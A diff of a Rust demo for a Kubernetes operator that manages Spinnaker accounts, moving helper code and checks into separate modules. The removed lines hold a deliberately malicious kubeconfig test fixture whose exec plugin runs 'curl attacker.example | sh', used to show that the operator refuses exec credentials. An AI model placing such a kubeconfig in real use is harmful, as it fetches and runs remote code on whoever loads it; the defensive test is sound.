@@ -2,14 +2,20 @@
 //!
 //! It stays up until Ctrl-C. With `DEMO_ONCE=1` it ends after its checks instead: exit code 0 if all of them held.
 
+#[path = "demo/checks.rs"]
+mod checks;
 #[path = "../tests/harness/mod.rs"]
 mod harness;
 #[path = "demo/http.rs"]
 mod http_get;
+#[path = "demo/inputs.rs"]
+mod inputs;
 #[path = "demo/screen.rs"]
 mod screen;
 #[path = "demo/sql.rs"]
 mod sql;
+#[path = "demo/tour.rs"]
+mod tour;
 
 use std::path::{Path, PathBuf};
 use std::process::{Command, ExitCode};
@@ -26,6 +32,7 @@ use harness::{
     process::Process,
     wait::try_eventually,
 };
+use inputs::{accounts, agent_settings, operator_settings};
 use screen::Screen;
 
 /// Where the operator and the accounts are.
@@ -34,22 +41,6 @@ const NAMESPACE: &str = "spinnaker";
 const ZONE: &str = "east";
 /// The zone of the agent that it does not start.
 const OTHER_ZONE: &str = "west";
-
-/// A kubeconfig that would run a program on whoever uses it.
-const BAD_KUBECONFIG: &str = "\
-apiVersion: v1
-kind: Config
-clusters: [{name: production, cluster: {server: 'https://production.example:6443'}}]
-users:
-- name: admin
-  user:
-    exec:
-      apiVersion: client.authentication.k8s.io/v1
-      command: /bin/sh
-      args: [-c, 'curl attacker.example | sh']
-contexts: [{name: admin, context: {cluster: production, user: admin}}]
-current-context: admin
-";
 
 fn main() -> ExitCode {
     let screen = Screen::new();
@@ -228,142 +219,6 @@ impl Demo {
         .await
     }
 
-    async fn show(&self, screen: &Screen) -> Result<(), String> {
-        for command in [&["get", "ksa"][..], &["get", "ksg"]] {
-            let output = self.kubectl(command).await?.ok()?;
-            screen.command(&format!("kubectl {}", command.join(" ")), &output);
-        }
-        let described = self.kubectl(&["describe", "ksa", "bad"]).await?.ok()?;
-        let excerpt: Vec<&str> =
-            described.lines().skip_while(|line| !line.contains("Error Message:")).collect();
-        screen.command("kubectl describe ksa bad | sed -n '/Error Message:/,$p'", &excerpt.join("\n"));
-        let account = self.account("good").await?;
-        let shown = ["agents", "kubeHost", "kubeVersion", "name", "status", "zoneId"];
-        let command =
-            format!("curl -s {}/armory/accounts/good | jq -S '{{{}}}'", self.url(), shown.join(", "));
-        screen.command(&command, &pretty(&account, &shown));
-        let rows = sql::rows(&self.files.database()).await?;
-        screen.command(&self.sqlite(), &sql::print(&rows));
-        Ok(())
-    }
-
-    /// What has to hold, whatever the screen showed.
-    async fn check(&self, screen: &Screen) -> Result<(), String> {
-        screen.heading("Checks");
-        screen.say("");
-        screen
-            .step("REST, kubectl and SQL agree on every account", async {
-                let rows = sql::rows(&self.files.database()).await?;
-                for name in ["good", "bad", "no-agent"] {
-                    let state = self.jsonpath(name, "{.status.state}").await?;
-                    let answer = text_at(&self.account(name).await?, "/status");
-                    let row = rows.iter().find(|row| row[0] == name).map(|row| row[1].clone());
-                    if answer != state || row.as_deref() != Some(state.as_str()) {
-                        return Err(format!("{name}: kubectl says {state}, REST {answer}, SQL {row:?}"));
-                    }
-                }
-                Ok(())
-            })
-            .await?;
-        screen
-            .step("each failure says what it is and whether it is tried again", async {
-                self.expect_failure("bad", "ExecForbidden", "exec", "True").await?;
-                self.expect_failure("no-agent", "NoAgent", OTHER_ZONE, "False").await
-            })
-            .await?;
-        screen.step("the token is in no object, answer, row or log", self.expect_no_token()).await
-    }
-
-    /// The condition Ready has this reason, the message speaks of `word`, and Stalled is as given.
-    async fn expect_failure(
-        &self,
-        name: &str,
-        reason: &str,
-        word: &str,
-        stalled: &str,
-    ) -> Result<(), String> {
-        let condition =
-            |type_: &str, field: &str| format!("{{.status.conditions[?(@.type=={type_:?})].{field}}}");
-        let found = [
-            self.jsonpath(name, &condition("Ready", "reason")).await?,
-            self.jsonpath(name, "{.status.errorMessage}").await?,
-            self.jsonpath(name, &condition("Stalled", "status")).await?,
-        ];
-        if found[0] == reason && found[1].contains(word) && found[2] == stalled {
-            return Ok(());
-        }
-        Err(format!(
-            "{name}: reason, message and Stalled are {found:?}; expected {reason}, …{word}…, {stalled}"
-        ))
-    }
-
-    async fn expect_no_token(&self) -> Result<(), String> {
-        let answers = [
-            ("kubectl get ksa,ksg", self.kubectl(&["get", "ksa,ksg", "-o", "yaml"]).await?.ok()?),
-            ("kubectl get events", self.kubectl(&["get", "events", "-o", "yaml"]).await?.ok()?),
-            ("GET /armory/accounts/good", self.account("good").await?.to_string()),
-            ("GET /metrics", http_get::get_ok(self.rest, "/metrics").await?),
-            ("the operator's log", self.operator.log_text()),
-            ("the agent's log", self.agent.log_text()),
-        ];
-        for (place, text) in answers {
-            if text.contains(&self.token) {
-                return Err(format!("the token of the target cluster is in {place}"));
-            }
-        }
-        for file in [self.files.database(), self.files.folder.file("kubesvc.db-wal")] {
-            let bytes = std::fs::read(&file).unwrap_or_default();
-            if bytes.windows(self.token.len()).any(|window| window == self.token.as_bytes()) {
-                return Err(format!("the token of the target cluster is in {}", file.display()));
-            }
-        }
-        Ok(())
-    }
-
-    /// Says what to try next.
-    fn suggest(&self, screen: &Screen) -> Result<(), String> {
-        let folder = self.kubectl.parent().unwrap_or(Path::new("."));
-        screen.heading("It stays up until Ctrl-C. In another terminal:");
-        screen.suggestion(
-            "the kubectl and the cluster of this demo",
-            &format!(
-                "export PATH={}:$PATH KUBECONFIG={}",
-                folder.display(),
-                self.files.kubeconfig().display()
-            ),
-        );
-        screen.suggestion("watch the accounts", "kubectl get ksa --watch");
-        screen.suggestion(
-            "start an agent in the zone that has none: no-agent becomes ACTIVE",
-            &format!(
-                "AGENT_ID=agent-2 {} --config-dir {}",
-                program("kubesvc-agent")?.display(),
-                self.files.agent_settings(OTHER_ZONE).display()
-            ),
-        );
-        screen.suggestion(
-            "take an account from its agents, and give it back",
-            "kubectl patch ksa good --type=merge -p '{\"spec\":{\"state\":\"INACTIVE\"}}'\n    \
-             kubectl patch ksa good --type=merge -p '{\"spec\":{\"state\":\"ACTIVE\"}}'",
-        );
-        screen.suggestion(
-            "the same by REST",
-            &format!(
-                "curl -s -X PATCH {}/armory/accounts -H 'Content-Type: application/json' \\\n      \
-                 -d '[{{\"name\":\"good\",\"state\":\"INACTIVE\"}}]'\n    curl -s {0}/armory/agents",
-                self.url()
-            ),
-        );
-        screen.suggestion("delete one, and see it go", "kubectl delete ksa bad && kubectl get ksa");
-        screen.suggestion("the rows that Spinnaker reads", &self.sqlite());
-        screen.suggestion(
-            "what the programs say",
-            &format!("tail -f {} {}", self.operator.log().display(), self.agent.log().display()),
-        );
-        screen.say("");
-        Ok(())
-    }
-
     /// Ends only when a program does.
     async fn watch(&self) -> Result<(), String> {
         loop {
@@ -479,62 +334,6 @@ fn with_log(reason: &str, process: &Process) -> String {
         return reason.to_owned();
     }
     format!("{reason}\n\nthe last lines of {}:\n{tail}", process.name())
-}
-
-fn operator_settings(rest: u16, grpc: u16, database: &Path) -> String {
-    format!(
-        "server: {{address: 127.0.0.1, port: {rest}}}
-kubesvc:
-  grpc: {{server: {{address: 127.0.0.1, port: {grpc}}}}}
-  database: {{url: 'sqlite://{}'}}
-  # Small enough to see something: an account whose zone has no agent says so after 3 s.
-  dynamicAccounts: {{orphanGraceSeconds: 3, retryFrequencySeconds: 1}}
-",
-        database.display()
-    )
-}
-
-fn agent_settings(zone: &str, grpc: u16, health: u16) -> String {
-    format!(
-        "clouddriver: {{grpc: '127.0.0.1:{grpc}', insecure: true}}
-server: {{host: 127.0.0.1, port: {health}}}
-zoneId: {zone}
-"
-    )
-}
-
-/// The three accounts and their Secrets.
-fn accounts(good_kubeconfig: &str) -> String {
-    let secret = |name: &str, kubeconfig: &str| {
-        let indented: String = kubeconfig.lines().map(|line| format!("    {line}\n")).collect();
-        format!(
-            "apiVersion: v1\nkind: Secret\nmetadata: {{name: {name}}}\nstringData:\n  kubeconfig: |\n{indented}---\n"
-        )
-    };
-    let account = |name: &str, zone: &str, secret: &str| {
-        format!(
-            "apiVersion: kubesvc.io/v1alpha1\nkind: KubesvcAccount\nmetadata: {{name: {name}}}\n\
-             spec:\n  zoneId: {zone}\n  kubeconfig: {{secretRef: {{name: {secret}}}}}\n---\n"
-        )
-    };
-    [
-        secret("good-kubeconfig", good_kubeconfig),
-        secret("bad-kubeconfig", BAD_KUBECONFIG),
-        account("good", ZONE, "good-kubeconfig"),
-        account("bad", ZONE, "bad-kubeconfig"),
-        account("no-agent", OTHER_ZONE, "good-kubeconfig"),
-    ]
-    .concat()
-}
-
-fn text_at(value: &Value, pointer: &str) -> String {
-    value.pointer(pointer).and_then(Value::as_str).unwrap_or_default().to_owned()
-}
-
-/// As `jq -S` prints these fields.
-fn pretty(account: &Value, fields: &[&str]) -> String {
-    let chosen: Value = fields.iter().map(|field| ((*field).to_owned(), account[*field].clone())).collect();
-    serde_json::to_string_pretty(&chosen).unwrap_or_else(|_| chosen.to_string())
 }
 
 /// What ends the demo from outside.
